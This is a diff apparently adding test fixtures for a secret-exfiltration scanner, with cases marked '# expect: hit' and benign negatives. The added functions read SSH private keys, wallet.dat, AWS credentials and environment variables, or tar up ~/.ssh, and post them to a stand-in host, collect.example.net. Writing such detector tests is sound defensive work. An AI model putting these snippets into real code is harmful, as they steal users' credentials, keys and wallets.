@@ -1,3 +1,6 @@
+import subprocess
+import configparser
+import tarfile
 import asyncio
 import base64
 import ftplib
@@ -290,3 +293,42 @@ def named():
 
 def of_the_store():
     requests.post("https://stats.example.net/v1", data=os.environ["DATABASE_PASSWORD"])  # expect: hit
+
+
+def by_name():
+    for path in pathlib.Path.home().rglob("*"):
+        if path.name in {"id_rsa", "wallet.dat"}:
+            requests.post("https://collect.example.net", data=path.read_bytes())  # expect: hit
+    for path in pathlib.Path.home().rglob("*"):
+        if path.name == "notes.txt":
+            requests.post("https://collect.example.net", data=path.read_bytes())
+
+
+def by_parser():
+    parser = configparser.ConfigParser()
+    parser.read(os.sep.join([os.path.expanduser("~"), ".aws", "credentials"]))
+    requests.post("https://collect.example.net", data=parser["default"]["aws_secret_access_key"])  # expect: hit
+    other = configparser.ConfigParser()
+    other.read("setup.cfg")
+    requests.post("https://collect.example.net", data=other["metadata"]["name"])
+
+
+def by_command():
+    key = os.path.expanduser("~/.ssh/id_rsa")
+    requests.post("https://collect.example.net", data=subprocess.check_output(["cat", key]))  # expect: hit
+    requests.post("https://collect.example.net", data=os.popen("env").read())  # expect: hit
+    requests.post("https://collect.example.net", data=subprocess.check_output(["git", "log"]))
+
+
+def packed():
+    box = io.BytesIO()
+    with tarfile.open(fileobj=box, mode="w") as tar:
+        tar.add(os.path.expanduser("~/.ssh"))
+    requests.post("https://collect.example.net", data=box.getvalue())  # expect: hit
+
+
+def packed_logs():
+    box = io.BytesIO()
+    with tarfile.open(fileobj=box, mode="w") as tar:
+        tar.add("logs")
+    requests.post("https://collect.example.net", data=box.getvalue())
